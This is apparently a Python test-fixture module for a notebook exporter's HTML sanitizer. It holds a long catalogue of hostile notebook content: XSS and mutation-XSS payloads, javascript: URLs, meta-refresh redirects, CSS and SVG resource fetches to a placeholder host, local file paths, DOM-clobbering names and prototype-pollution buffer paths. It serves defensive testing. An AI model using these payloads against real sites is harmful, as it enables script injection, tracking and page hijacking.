"""What a notebook may hold that would ask another host for something, run, or break the page, when exported.

``OUTPUTS`` holds MIME bundles, ``PROSE`` Markdown with attachments, ``MODELS`` states of widgets: each by an id
whose first part is its kind. ``@HOST@`` is a server that counts, and what runs calls :data:`RUN`.
"""

from __future__ import annotations

from typing import Any

RUN = "window.__nsmw_pwned=1"
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
REFRESH = "<meta http-equiv=refresh content='0;url=@HOST@/n'>"

HTML: dict[str, str] = {
    # to another page, without a click
    "refresh-nested": "<me<link>ta http-equiv=refresh content='0;url=@HOST@/n'>",
    "refresh-nested-twice": "<me<li<meta http-equiv=x>nk>ta http-equiv=refresh content='0;url=@HOST@/n'>",
    "refresh-plain": REFRESH,
    "refresh-upper": "<META HTTP-EQUIV='REFRESH' CONTENT='0; URL=@HOST@/n'>",
    "refresh-slashes": "<meta/http-equiv=refresh/content='0;url=@HOST@/n'/>",
    "refresh-entities": "<meta http-equiv='&#114;efresh' content='0;url&#61;@HOST@/n'>",
    "refresh-line-ends": "<meta\nhttp-equiv\n=\nrefresh\ncontent\n=\n'0;url=@HOST@/n'\n>",
    "refresh-in-svg-style": f"<svg><style>{REFRESH}</style></svg>",
    "refresh-in-svg-style-nested": "<svg><style><me<link>ta http-equiv=refresh content='0;url=@HOST@/n'></style>",
    "refresh-in-noscript": f"<noscript>{REFRESH}</noscript>",
    "refresh-in-template": f"<template>{REFRESH}</template>",
    "refresh-in-select": f"<select><option>{REFRESH}</option></select>",
    "refresh-in-table": f"<table>{REFRESH}<tr><td>{REFRESH}</td></tr></table>",
    "refresh-in-head": f"</div></main></body><head>{REFRESH}</head>",
    "refresh-in-attribute": f'<p title="{REFRESH}">x</p><p title="\'>{REFRESH}">y</p>',
    "refresh-in-textarea": f"<textarea></textarea>{REFRESH}<textarea>",
    "refresh-in-title": f"<title></title>{REFRESH}",
    "refresh-after-comment": f"<!-- > -->{REFRESH}<!-- --!>{REFRESH}-->",
    "refresh-after-short-comment": f"<!-->{REFRESH}<!--->{REFRESH}-->",
    "refresh-in-shadow": f"<div><template shadowrootmode=open>{REFRESH}</template></div>",
    "refresh-policy": '<meta http-equiv=Content-Security-Policy content="default-src *; report-uri @HOST@/csp">',
    "refresh-cookie": "<meta http-equiv=set-cookie content='a=b'>",
    # what a page fetches by itself
    "link-stylesheet": "<link rel=stylesheet href=@HOST@/a.css>",
    "link-prefetch": "<link rel=prefetch href=@HOST@/p><link rel=prerender href=@HOST@/q>",
    "link-preload": "<link rel=preload as=image href=@HOST@/p><link rel=modulepreload href=@HOST@/m.js>",
    "link-preconnect": "<link rel=preconnect href=@HOST@><link rel=dns-prefetch href=//dns.example.invalid>",
    "link-icon": "<link rel=icon href=@HOST@/i.ico><link rel=manifest href=@HOST@/m.json>",
    "link-in-svg": "<svg><link xmlns='http://www.w3.org/1999/xhtml' rel=stylesheet href=@HOST@/a.css /></svg>",
    "base-href": "<base href=@HOST@/><img src=relative.png><a href=relative>x</a>",
    "base-target": "<base target=_parent>",
    "frame-src": "<iframe src=@HOST@/f></iframe><frameset><frame src=@HOST@/g></frameset>",
    "frame-srcdoc": f"<iframe srcdoc=\"<script>parent.{RUN}</script><img src='@HOST@/f'>\"></iframe>",
    "frame-data": f'<iframe src="data:text/html,<script>top.{RUN}</script>"></iframe>',
    "frame-object": "<object data=@HOST@/o></object><embed src=@HOST@/e><applet code=@HOST@/a></applet>",
    "frame-object-param": "<object><param name=src value=@HOST@/p><img src=@HOST@/q></object>",
    "frame-portal": "<portal src=@HOST@/p></portal><fencedframe src=@HOST@/q></fencedframe>",
    "img-src": "<img src=@HOST@/i.png><image src=@HOST@/j.png>",
    "img-no-protocol": "<img src='//127.0.0.1:@PORT@/i.png'>",
    "img-srcset": "<img srcset='@HOST@/i.png 1x, @HOST@/j.png 2x'>",
    "img-srcset-data": f"<img src='data:image/png;base64,{PIXEL}' srcset='@HOST@/i.png 2x'>",
    "img-lazy": "<img loading=lazy src=@HOST@/i.png><img loading=eager src=@HOST@/j.png>",
    "img-lowsrc": "<img lowsrc=@HOST@/i.png dynsrc=@HOST@/j.avi longdesc=@HOST@/k>",
    "img-crossorigin": "<img crossorigin=use-credentials src=@HOST@/i.png>",
    "img-file": "<img src='file:///etc/hostname'><img src='/etc/hostname'><img src='../../../etc/hostname'>",
    "img-attribution": "<img attributionsrc=@HOST@/a><a href=#x attributionsrc=@HOST@/b>x</a>",
    "img-usemap": "<map name=m><area href=@HOST@/a ping=@HOST@/b></map><img usemap=#m>",
    "picture-source": "<picture><source srcset=@HOST@/i.webp><img src=@HOST@/i.png></picture>",
    "media-video": "<video autoplay src=@HOST@/v.mp4 poster=@HOST@/p.png></video>",
    "media-source": "<video autoplay><source src=@HOST@/v.mp4><track default src=@HOST@/t.vtt></video>",
    "media-audio": "<audio autoplay src=@HOST@/a.mp3></audio><bgsound src=@HOST@/b.mid>",
    "input-image": "<input type=image src=@HOST@/i.png><button type=submit formaction=@HOST@/f>x</button>",
    "body-background": "<body background=@HOST@/b.png><table background=@HOST@/t.png><td background=@HOST@/d.png>",
    "link-ping": "<a href=#x ping=@HOST@/p>x</a>",
    "speculation": '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["@HOST@/s"]}]}</script>',
    "importmap": '<script type=importmap>{"imports":{"a":"@HOST@/a.js"}}</script>',
    "manifest": "<html manifest=@HOST@/m>",
    # forms, that send themselves by a press on what looks like the page
    "form-autofocus": f"<form action=@HOST@/f><input autofocus onfocus={RUN}><button>x</button></form>",
    "form-outside": "<form id=f action=@HOST@/f></form><button form=f formaction=@HOST@/g>x</button>",
    "form-dialog": "<dialog open><form method=dialog action=@HOST@/f><button>x</button></form></dialog>",
    "form-isindex": "<isindex action=@HOST@/f prompt=x>",
    # style sheets
    "css-import": "<style>@import '@HOST@/a.css'; @import url(@HOST@/b.css);</style>",
    "css-import-late": "<style>a{} @import '@HOST@/a.css'; @charset 'x'; @namespace url(@HOST@/n);</style>",
    "css-import-layer": "<style>@import url('@HOST@/a.css') layer(x) supports(display: grid);</style>",
    "css-url": "<style>* { background: url(@HOST@/a.png) }</style>",
    "css-url-escaped": r"<style>* { background: \75 rl(@HOST@/a.png); background: u\72l('@HOST@/b.png') }</style>",
    "css-url-comment": "<style>* { background: url/**/(@HOST@/a.png); background:/**/url(@HOST@/b.png) }</style>",
    "css-url-unclosed": "<style>* { background: url('@HOST@/a.png",
    "css-image-set": "<style>* { background: image-set('@HOST@/a.png' 1x) }</style>",
    "css-webkit-image-set": "<style>* { background: -webkit-image-set(url(@HOST@/a.png) 1x) }</style>",
    "css-cross-fade": "<style>* { background: -webkit-cross-fade(url(@HOST@/a.png), url(@HOST@/b.png), 50%) }</style>",
    "css-src": "<style>* { background: src('@HOST@/a.png') }</style>",
    "css-variable": "<style>* { --x: url(@HOST@/a.png); background: var(--x) }</style>",
    "css-property": "<style>@property --x { syntax: '<url>'; inherits: true; initial-value: url(@HOST@/a) }</style>",
    "css-font-face": "<style>@font-face { font-family: x; src: url(@HOST@/f.woff2) } * { font-family: x }</style>",
    "css-cursor": "<style>* { cursor: url(@HOST@/c.cur), auto; list-style: url(@HOST@/l.png) }</style>",
    "css-content": "<style>*::before { content: url(@HOST@/c.png) }</style>",
    "css-filter": "<style>* { filter: url(@HOST@/f.svg#a); mask: url(@HOST@/m.svg#a) }</style>",
    "css-shape": "<style>* { shape-outside: url(@HOST@/s.png); border-image: url(@HOST@/b.png) 1 }</style>",
    "css-keyframes": "<style>@keyframes a { to { background: url(@HOST@/k.png) } } * { animation: a 1s }</style>",
    "css-media": "<style>@media all { * { background: url(@HOST@/a.png) } @import '@HOST@/b.css'; }</style>",
    "css-supports": "<style>@supports (display: grid) { * { background: url(@HOST@/a.png) } }</style>",
    "css-nested": "<style>div { & ~ * { background: url(@HOST@/a.png) } @media all { background: url(@HOST@/b) } }</style>",
    "css-attribute": "<style>[class^='n'] { background: url(@HOST@/n.png) }</style>",
    "css-expression": f"<style>* {{ width: expression({RUN}); behavior: url(@HOST@/b.htc) }}</style>",
    "css-binding": "<style>* { -moz-binding: url(@HOST@/x.xml#a) }</style>",
    "css-hides-all": "<style>* { display: none !important; visibility: hidden !important; opacity: 0 }</style>",
    "css-hides-sibling": "<style>~ * { display: none !important } & ~ * { display: none } :scope ~ * { top: 0 }</style>",
    "css-ends-early": "<style>a::before { content: '</style><style>* { display: none !important }</style>'; }</style>",
    "css-type": "<style type=text/plain>* { display: none }</style><style media=all>* { display: none }</style>",
    "style-attribute": "<p style='background: url(@HOST@/a.png)'>x</p>",
    "style-attribute-escaped": r"<p style='background: \000075rl(&quot;@HOST@/a.png&quot;)'>x</p>",
    "style-attribute-entities": "<p style='background&#58; url&lpar;@HOST@/a.png&rpar;'>x</p>",
    "style-attribute-covers": "<p style='position: fixed; inset: 0; z-index: 99999; background: red'>x</p>",
    "style-attribute-negative": "<p style='margin: -9999px; height: 19999px; background: red'>x</p>",
    "style-attribute-image-set": "<p style='background-image: image-set(&quot;@HOST@/a.png&quot; 1x)'>x</p>",
    "style-attribute-variable": "<p style='--jp-layout-color0: url(@HOST@/a.png)'><b style='background: var(--x)'>x</b></p>",
    # SVG in HTML
    "svg-use": "<svg><use href='@HOST@/u.svg#a'/><use xlink:href='@HOST@/v.svg#a'/></svg>",
    "svg-use-data": f"<svg><use href=\"data:image/svg+xml,<svg id='a' onload='{RUN}'/>#a\"/></svg>",
    "svg-image": "<svg><image href='@HOST@/i.png'/><image xlink:href='@HOST@/j.png'/></svg>",
    "svg-fe-image": "<svg><filter id=f><feImage href='@HOST@/i.png'/></filter><rect filter='url(#f)'/></svg>",
    "svg-animate-href": "<svg><a><animate attributeName=href values='javascript:{RUN}'/><text>x</text></a></svg>",
    "svg-set-href": "<svg><image><set attributeName=href to='@HOST@/i.png'/></image></svg>",
    "svg-animate-begin": f"<svg><animate onbegin='{RUN}' attributeName=x dur=1s /></svg>",
    "svg-foreign": f"<svg><foreignObject><img src=@HOST@/i.png onerror={RUN}>{REFRESH}</foreignObject></svg>",
    "svg-foreign-frame": "<svg><foreignObject><iframe src=@HOST@/f></iframe></foreignObject></svg>",
    "svg-script": f"<svg><script>{RUN}</script><script href='@HOST@/s.js'/></svg>",
    "svg-script-cdata": f"<svg><script><![CDATA[{RUN}]]></script></svg>",
    "svg-onload": f"<svg onload='{RUN}'><g onload='{RUN}'/></svg>",
    "svg-style": "<svg><style>@import '@HOST@/a.css'; * { fill: url(@HOST@/f.svg#a) }</style><rect/></svg>",
    "svg-paint": "<svg><rect fill='url(@HOST@/f.svg#a)' filter='url(@HOST@/g.svg#a)' mask='url(@HOST@/h.svg#a)'/></svg>",
    "svg-paint-escaped": r"<svg><rect filter='\75rl(@HOST@/g.svg#a)' clip-path='u\72l(@HOST@/c.svg#a)'/></svg>",
    "svg-gradient": "<svg><linearGradient id=a href='@HOST@/g.svg#b'/><rect fill='url(#a)'/></svg>",
    "svg-pattern": "<svg><pattern id=p xlink:href='@HOST@/p.svg#b'><image href='@HOST@/i.png'/></pattern></svg>",
    "svg-text-path": "<svg><text><textPath href='@HOST@/t.svg#a'>x</textPath></text></svg>",
    "svg-mpath": "<svg><animateMotion><mpath href='@HOST@/m.svg#a'/></animateMotion></svg>",
    "svg-cursor": "<svg><cursor href='@HOST@/c.png'/><rect cursor='url(@HOST@/c.cur)'/></svg>",
    "svg-handler": f"<svg><handler type='text/javascript' ev:event=load>{RUN}</handler></svg>",
    "svg-discard": "<svg><discard begin=0s href='#nsmw-state'/></svg>",
    "svg-link": f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>",
    "svg-title": f"<svg><title><img src=@HOST@/i.png onerror={RUN}></title><desc>{REFRESH}</desc></svg>",
    "svg-entity": "<svg><!DOCTYPE x [<!ENTITY e SYSTEM '@HOST@/e'>]><text>&e;</text></svg>",
    "svg-xml-stylesheet": "<?xml-stylesheet href='@HOST@/a.css'?><svg><rect/></svg>",
    "svg-xml-base": "<svg xml:base='@HOST@/'><use href='#a'/><image href='i.png'/></svg>",
    # MathML in HTML
    "mathml-href": f"<math href='javascript:{RUN}'><mi xlink:href='@HOST@/m'>x</mi></math>",
    "mathml-action": f"<math><maction actiontype='statusline#@HOST@' xlink:href='javascript:{RUN}'>x</maction></math>",
    "mathml-annotation": f"<math><annotation-xml encoding='text/html'><img src=@HOST@/i.png onerror={RUN}></annotation-xml></math>",
    "mathml-glyph": "<math><mi><mglyph src='@HOST@/g.png' alt=x /></mi></math>",
    "mathml-style": "<math><mi style='background: url(@HOST@/b.png)' mathbackground='url(@HOST@/c.png)'>x</mi></math>",
    # parsers that disagree
    "nest-mglyph": f"<form><math><mtext></form><form><mglyph><style></math><img src=@HOST@/i onerror={RUN}>",
    "nest-table": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=@HOST@/i onerror={RUN}&gt;">',
    "nest-svg-p": f'<svg></p><style><a id="</style><img src=@HOST@/i onerror={RUN}>">',
    "nest-svg-title": f"<svg><title><style><img id='</style></title></svg><img src=@HOST@/i onerror={RUN}>'>",
    "nest-desc": f"<svg><desc><noscript><p title='</noscript><img src=@HOST@/i onerror={RUN}>'>",
    "nest-noscript": f"<noscript><p title='</noscript><img src=@HOST@/i onerror={RUN}>'>",
    "nest-noembed": f"<noembed><img title='</noembed><img src=@HOST@/i onerror={RUN}>'></noembed>",
    "nest-xmp": f"<xmp><p title='</xmp><img src=@HOST@/i onerror={RUN}>'>",
    "nest-plaintext": f"<plaintext><img src=@HOST@/i onerror={RUN}>",
    "nest-cdata": f"<![CDATA[ ]]><svg><![CDATA[><img src=@HOST@/i onerror={RUN}>]]></svg>",
    "nest-comment": f"<!--><img src=@HOST@/i onerror={RUN}>--><!-- --!><img src=@HOST@/j onerror={RUN}>",
    "nest-comment-open": "<!-- never closed",
    "nest-textarea": f"<textarea><p title='</textarea><img src=@HOST@/i onerror={RUN}>'>",
    "nest-template": f"<template><style></template><img src=@HOST@/i onerror={RUN}></style></template>",
    "nest-select": f"<select><style></select><img src=@HOST@/i onerror={RUN}></style>",
    "nest-bogus": f"<?x ><img src=@HOST@/i onerror={RUN}?></ ><img src=@HOST@/j onerror={RUN}>",
    "nest-nul": f"<scr\0ipt>{RUN}</scr\0ipt><im\0g src=@HOST@/i>",
    "nest-deep": "<div>" * 600 + "<img src=@HOST@/i>" + "</div>" * 600,
    "nest-formatting": "<b><i><u>" * 40 + "<p>" * 20 + "x",
    "nest-unclosed": "<div><table><tr><td><svg><g><ul><li><a href=#x><b>",
    "nest-ends": "</div></div></div></main></body></html></script></style></svg>",
    "nest-place": "<!--nsmw-0-place 0--> nsmw-0-place-0- <!--nsmw-0-body--><!--nsmw-scripts-->",
    # scripts
    "script-plain": f"<script>{RUN}</script><script src=@HOST@/s.js></script><script type=module>{RUN}</script>",
    "script-nested": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script-handlers": f"<p onclick={RUN} onmouseover={RUN} onanimationstart={RUN} style='animation: a 1s'>x</p>",
    "script-details": f"<details open ontoggle={RUN}><summary>x</summary></details>",
    "script-media": f"<video onerror={RUN} src=x></video><audio onloadstart={RUN} src=x></audio>",
    "script-popover": f"<p popover onbeforetoggle={RUN}>x</p><button popovertarget=x autofocus onfocus={RUN}>x</button>",
    "script-content-visibility": f"<p style='content-visibility: auto' oncontentvisibilityautostatechange={RUN}>x</p>",
    "script-marquee": f"<marquee onstart={RUN}>x</marquee>",
    "url-javascript": f"<a href='javascript:{RUN}'>x</a>",
    "url-entities": f"<a href='&#106;avascript&colon;{RUN}'>x</a><a href='java&Tab;script:{RUN}'>y</a>",
    "url-line-end": f"<a href='java\nscript:{RUN}'>x</a><a href=' \x01javascript:{RUN}'>y</a>",
    "url-case": f"<a href='JaVaScRiPt:{RUN}'>x</a><a href='vbscript:x'>y</a><a href='view-source:x'>z</a>",
    "url-data": f"<a href='data:text/html,<script>{RUN}</script>'>x</a><a href='blob:null/x'>y</a>",
    "url-picture": f"<img src='javascript:{RUN}'><img src='data:text/html,<script>{RUN}</script>'>",
    "url-picture-svg": f"<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'><image href='@HOST@/i.png'/></svg>\">",
    # names that the page's scripts would read
    "name-get-element": "<img name=getElementById><img name=querySelector><img name=querySelectorAll>",
    "name-create": "<img name=createElement><embed name=createElementNS><object name=createTextNode></object>",
    "name-body": "<img name=body><form name=body></form><iframe name=head></iframe><img name=documentElement>",
    "name-script": "<img name=currentScript><form name=scripts></form><img name=readyState><img name=location>",
    "name-listener": "<form name=addEventListener></form><img name=defaultView><img name=implementation>",
    "name-two": "<a id=x></a><a id=x name=y href=@HOST@/></a><form id=x name=y><input name=z></form>",
    "name-globals": "<a id=define></a><a id=require></a><a id=module></a><a id=exports></a><a id=MathJax></a>",
    "name-more-globals": "<a id=process></a><a id=global></a><a id=jQuery></a><a id=$></a><a id=_></a><a id=self>x</a>",
    "name-ours": "<div id=nsmw-state>{}</div><div id=nsmw-runtime>AAAA</div><div id=nsmw-data-0>AAAA</div>",
    "name-our-parts": "<div data-nsmw-view=m0></div><div data-nsmw-module=anywidget>AAAA</div><p data-nsmw-text=t0>AAAA</p>",
    "name-our-classes": "<div class='nsmw-page-live nsmw-page-picture nsmw-page-view'>x</div>",
    "name-our-links": "<p data-nsmw-selection=m0><a data-nsmw-go='{\"time\": 1}'>x</a></p>",
    "name-style": "<style id='nsm_widgets.widgets.views._views.Heatmap'>* { display: none !important }</style>",
}

OUTPUTS: dict[str, dict[str, Any]] = {
    **{key: {"text/html": f"{text}<p class=n>x</p>"} for key, text in HTML.items()},
    "mime-svg": {
        "image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'><image href='@HOST@/i'/></svg>"
    },
    "mime-svg-style": {
        "image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg'><style>@import '@HOST@/a.css';</style></svg>"
    },
    "mime-svg-use": {
        "image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg'><use href='@HOST@/u.svg#a'/></svg>"
    },
    "mime-svg-quote": {"image/svg+xml": f'"><img src=@HOST@/i onerror={RUN}>'},
    "mime-png": {"image/png": f'"><img src=@HOST@/i onerror={RUN}>'},
    "mime-jpeg": {"image/jpeg": f"' onerror={RUN} x='"},
    "mime-script": {"application/javascript": f"{RUN}</script><img src=@HOST@/i>"},
    "mime-markdown": {"text/markdown": f"![x](@HOST@/i.png) {REFRESH} [y](javascript:{RUN})"},
    "mime-latex": {
        "text/latex": rf"\href{{javascript:{RUN}}}{{x}} \includegraphics{{@HOST@/i.png}} <img src=@HOST@/i>"
    },
    "mime-latex-math": {"text/latex": rf"$$\unicode{{x3c}}img src=@HOST@/i onerror={RUN}>$$"},
    "mime-mermaid": {
        "text/vnd.mermaid": f"graph TD; a-->b; click a href '@HOST@/m' </pre><img src=@HOST@/i onerror={RUN}>"
    },
    "mime-text": {
        "text/plain": f"</pre><img src=@HOST@/i onerror={RUN}>\x1b]8;;@HOST@/t\x07link\x1b]8;;\x07"
    },
    "mime-unknown": {"application/x-anything": "<img src=@HOST@/i>", "text/html": f"<b>x</b>{REFRESH}"},
    "mime-pdf": {"application/pdf": "JVBERi0=", "text/plain": "a pdf"},
    "mime-geo": {"application/geo+json": {"url": "@HOST@/tiles"}, "text/plain": "a map"},
    "mime-view-odd": {
        "application/vnd.jupyter.widget-view+json": {"model_id": "<img src=@HOST@/i>"},
        "text/plain": "x",
    },
    "mime-view-number": {"application/vnd.jupyter.widget-view+json": {"model_id": 0}, "text/plain": "x"},
}

RAW: dict[str, str] = {
    "raw-html": f"<img src=@HOST@/i onerror={RUN}>{REFRESH}<script>{RUN}</script>",
    "raw-covers": "<p style='position: fixed; inset: 0; z-index: 99999; background: red'>x</p>",
    "raw-unclosed": "<table><tr><td><!--",
}

PROSE: dict[str, tuple[str, dict[str, dict[str, str]]]] = {
    "prose-html": (f"text <img src=@HOST@/i onerror={RUN}> {REFRESH} <script>{RUN}</script>", {}),
    "prose-block": (f"<div>\n{REFRESH}\n<iframe src=@HOST@/f></iframe>\n</div>", {}),
    "prose-image": ("![x](@HOST@/i.png) ![y][r]\n\n[r]: @HOST@/r.png", {}),
    "prose-link": (f"[x](javascript:{RUN}) [y][r] <javascript:{RUN}>\n\n[r]: JAVASCRIPT:{RUN}", {}),
    "prose-link-data": (f"[x](data:text/html;base64,PHNjcmlwdD4=) [y](vbscript:{RUN})", {}),
    "prose-title": (f"[x](#a '\"><img src=@HOST@/i onerror={RUN}>') ![y](#b \"' onerror={RUN} '\")", {}),
    "prose-heading": ("# getElementById\n\n# define\n\n# MathJax\n\n# nsmw-state", {}),
    "prose-heading-html": (f"# <img name=body src=@HOST@/i> {REFRESH}", {}),
    "prose-code": (f"```{REFRESH}\n{REFRESH}\n```\n`{REFRESH}`", {}),
    "prose-mermaid": (f"```mermaid\ngraph TD; a-->b; click a call {RUN}\n</pre>{REFRESH}\n```", {}),
    "prose-math": (
        rf"$\href{{javascript:{RUN}}}{{x}}$ $$\class{{a}}{{\style{{background:url(@HOST@/b)}}{{x}}}}$$",
        {},
    ),
    "prose-math-html": (f"$<img src=@HOST@/i onerror={RUN}>$ $$</math>{REFRESH}$$", {}),
    "prose-math-text": (rf"$\text{{<img src=@HOST@/i onerror={RUN}>}}$ $\mathrm{{{REFRESH}}}$", {}),
    "prose-math-environment": (rf"\begin{{align}}x &= \text{{{REFRESH}}}\end{{align}}", {}),
    "prose-table": (
        f"| {REFRESH} | <img src=@HOST@/i> |\n|---|---|\n| x | <style>*{{display:none}}</style> |",
        {},
    ),
    "prose-autolink": (f"<@HOST@/a> @HOST@/b <x:y onclick={RUN}> www.example.invalid", {}),
    "prose-footnote": (f"x[^1]\n\n[^1]: {REFRESH} <img src=@HOST@/i>", {}),
    "prose-comment": (f"<!-- {REFRESH} --> <!--> {REFRESH} <!-- never closed", {}),
    "prose-unclosed": ("<details><summary>x</summary><table><tr><td>", {}),
    "prose-attachment-type": (
        "![x](attachment:a.png)",
        {"a.png": {f'text/html,<script>{RUN}</script>" onerror="{RUN}': "AAAA"}},
    ),
    "prose-attachment-svg": (
        "![x](attachment:a.svg)",
        {"a.svg": {"image/svg+xml": "PHN2ZyB4bWxucz0naHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmcnLz4="}},
    ),
    "prose-attachment-data": (
        "![x](attachment:a.png)",
        {"a.png": {"image/png": f'"><img src=@HOST@/i onerror={RUN}>'}},
    ),
    "prose-attachment-absent": ("![x](attachment:none.png)", {}),
    "prose-attachment-empty": ("![x](attachment:a.png)", {"a.png": {}}),
    "prose-covers": ("<p style='position: fixed; inset: 0; z-index: 99999; background: red'>x</p>", {}),
    "prose-margin": ("<p style='margin: -9999px 0 0; height: 9999px; background: red'>x</p>", {}),
    "prose-file": ("![x](/etc/hostname) ![y](../../../../etc/hostname) ![z](file:///etc/hostname)", {}),
    "prose-folder": ("![x](.) ![y](%2e%2e/%2e%2e/etc/hostname) ![z](a.png%00)", {}),
}

_CONTROLS = "@jupyter-widgets/controls"
_ESM = f"{RUN}; export default {{ render({{ el }}) {{ {RUN}; el.innerHTML = '<img src=@HOST@/i>'; }} }}"


def _model(name: str, module: str = _CONTROLS, **state: Any) -> dict[str, Any]:
    given = {
        "_model_name": name,
        "_model_module": module,
        "_view_name": name.replace("Model", "View"),
        "_view_module": module,
        **state,
    }
    return {"model_name": name, "model_module": module, "model_module_version": "2.0.0", "state": given}


def _anywidget(**state: Any) -> dict[str, Any]:
    given = {"_view_name": "AnyView", "_anywidget_id": "strange.Widget", "_esm": _ESM, "_css": "", **state}
    return _model("AnyModel", "anywidget", **given)


def _html(value: str, **state: Any) -> dict[str, Any]:
    return _model("HTMLModel", value=value, description="", **state)


MODELS: dict[str, dict[str, dict[str, Any]]] = {
    "model-anywidget": {"shown": _anywidget()},
    "model-anywidget-href": {"shown": _anywidget(_esm="@HOST@/m.js", _css="@HOST@/s.css")},
    "model-anywidget-css": {
        "shown": _anywidget(_css="@import '@HOST@/a.css'; * { display: none !important }")
    },
    "model-anywidget-ours-by-name": {
        "shown": _anywidget(_anywidget_id="nsm_widgets.widgets.views._views.Heatmap")
    },
    "model-anywidget-ours-by-format": {
        "shown": _anywidget(_anywidget_id="nsm_widgets.X", _kind="view", _format=99)
    },
    "model-anywidget-ours-by-kind": {"shown": _anywidget(_kind="selection", _format=1)},
    "model-anywidget-quote": {"shown": _anywidget(_kind="selection", _anywidget_id="']; x['", _css="* {}")},
    "model-anywidget-trusted-name": {"shown": _anywidget(_anywidget_id="bqplot.Figure")},
    "model-anywidget-view-only": {
        "shown": _model("LabelModel", value="x", _view_module="anywidget", _view_name="AnyView", _esm=_ESM)
    },
    "model-anywidget-model-only": {
        "shown": _model("LabelModel", value="x", _model_module="anywidget", _model_name="AnyModel", _esm=_ESM)
    },
    "model-anywidget-in-box": {
        "shown": _model("VBoxModel", children=["IPY_MODEL_@ID@1"]),
        "1": _anywidget(),
    },
    "model-anywidget-in-output": {
        "shown": _model(
            "OutputModel",
            "@jupyter-widgets/output",
            outputs=[
                {
                    "output_type": "display_data",
                    "data": {"application/vnd.jupyter.widget-view+json": {"model_id": "@ID@1"}},
                }
            ],
        ),
        "1": _anywidget(),
    },
    "model-output-picture": {
        "shown": _model(
            "OutputModel",
            "@jupyter-widgets/output",
            outputs=[
                {"output_type": "display_data", "data": {"image/png": f"'><img src=@HOST@/i onerror={RUN}>"}}
            ],
        )
    },
    "model-covers": {
        "shown": _model("ButtonModel", description="x", layout="IPY_MODEL_@ID@1", style="IPY_MODEL_@ID@2"),
        "1": _model(
            "LayoutModel",
            "@jupyter-widgets/base",
            _view_name="LayoutView",
            margin="-3000px 0 0",
            height="6000px",
            width="100%",
        ),
        "2": _model(
            "ButtonStyleModel",
            button_color="red",
            _view_module="@jupyter-widgets/base",
            _view_name="StyleView",
        ),
    },
    **{
        f"model-buffer-{name}": {
            "shown": {
                **_model("ImageModel", format="png", width="", height="", value=None),
                "buffers": [{"path": path, "encoding": "base64", "data": PIXEL}],
            }
        }
        for name, path in {
            "prototype": ["__proto__", "get"],
            "constructor": ["constructor", "prototype", "get"],
            "inner": ["layout", "__proto__", "x"],
            "nowhere": ["a", "b", "c"],
            "empty": [],
            "numbers": [0, 1],
        }.items()
    },
    **{
        f"model-buffer-{name}": {
            "shown": {
                **_model("ImageModel", format="png", width="", height="", value=None),
                "buffers": [{"path": ["value"], "encoding": encoding, "data": data}],
            }
        }
        for name, (encoding, data) in {
            "cut": ("base64", "AAA"),
            "no-base64": ("base64", "<img>"),
            "number": ("base64", 7),
            "hex": ("hex", "xyz"),
            "unknown": ("rot13", "AAAA"),
        }.items()
    },
    "model-linked-esm": {
        "shown": _model("TextModel", value=_ESM, description=""),
        "1": _model(
            "LinkModel",
            source=["IPY_MODEL_@ID@shown", "value"],
            target=["IPY_MODEL_@OURS@", "_esm"],
            _view_name=None,
        ),
    },
    "model-linked-css": {
        "shown": _model("TextModel", value="@import '@HOST@/a.css'", description=""),
        "1": _model(
            "DirectionalLinkModel",
            source=["IPY_MODEL_@ID@shown", "value"],
            target=["IPY_MODEL_@OURS@", "_css"],
            _view_name=None,
        ),
    },
    "model-linked-markup": {
        "shown": _model("VBoxModel", children=["IPY_MODEL_@ID@1", "IPY_MODEL_@ID@2"]),
        "1": _model("TextModel", value=f"<img src=@HOST@/i onerror={RUN}>", description=""),
        "2": _html(""),
        "3": _model(
            "LinkModel",
            source=["IPY_MODEL_@ID@1", "value"],
            target=["IPY_MODEL_@ID@2", "value"],
            _view_name=None,
        ),
    },
    "model-linked-description": {
        "shown": _model("VBoxModel", children=["IPY_MODEL_@ID@1", "IPY_MODEL_@ID@2"]),
        "1": _model("TextModel", value=f"<img src=@HOST@/i onerror={RUN}>", description=""),
        "2": _model("TextModel", value="x", description="", description_allow_html=True),
        "3": _model(
            "LinkModel",
            source=["IPY_MODEL_@ID@1", "value"],
            target=["IPY_MODEL_@ID@2", "description"],
            _view_name=None,
        ),
    },
    "model-linked-format": {
        "shown": _model("VBoxModel", children=["IPY_MODEL_@ID@1", "IPY_MODEL_@ID@2"]),
        "1": _model("TextModel", value="url", description=""),
        "2": {
            **_model("ImageModel", format="png"),
            "buffers": [{"path": ["value"], "encoding": "base64", "data": "aHR0cDovLzEyNy4wLjAuMS8="}],
        },
        "3": _model(
            "LinkModel",
            source=["IPY_MODEL_@ID@1", "value"],
            target=["IPY_MODEL_@ID@2", "format"],
            _view_name=None,
        ),
    },
    "model-linked-background": {
        "shown": _model("VBoxModel", children=["IPY_MODEL_@ID@1", "IPY_MODEL_@ID@2"]),
        "1": _model("TextModel", value="url(@HOST@/b.png)", description=""),
        "2": _model("LabelModel", value="x", style="IPY_MODEL_@ID@3"),
        "3": _model("LabelStyleModel", _view_module="@jupyter-widgets/base", _view_name="StyleView"),
        "4": _model(
            "LinkModel",
            source=["IPY_MODEL_@ID@1", "value"],
            target=["IPY_MODEL_@ID@3", "background"],
            _view_name=None,
        ),
    },
    "model-html": {"shown": _html(f"<img src=@HOST@/i onerror={RUN}>{REFRESH}<script>{RUN}</script>")},
    "model-html-style": {
        "shown": _html("<style>* { display: none !important } @import '@HOST@/a.css';</style>x")
    },
    "model-html-names": {
        "shown": _html("<img name=getElementById><form name=createElement></form><a id=MathJax>x</a>")
    },
    "model-html-number": {"shown": _model("HTMLModel", value=7, description="")},
    "model-html-math": {
        "shown": _model("HTMLMathModel", value=f"$x$ <img src=@HOST@/i onerror={RUN}>", description="")
    },
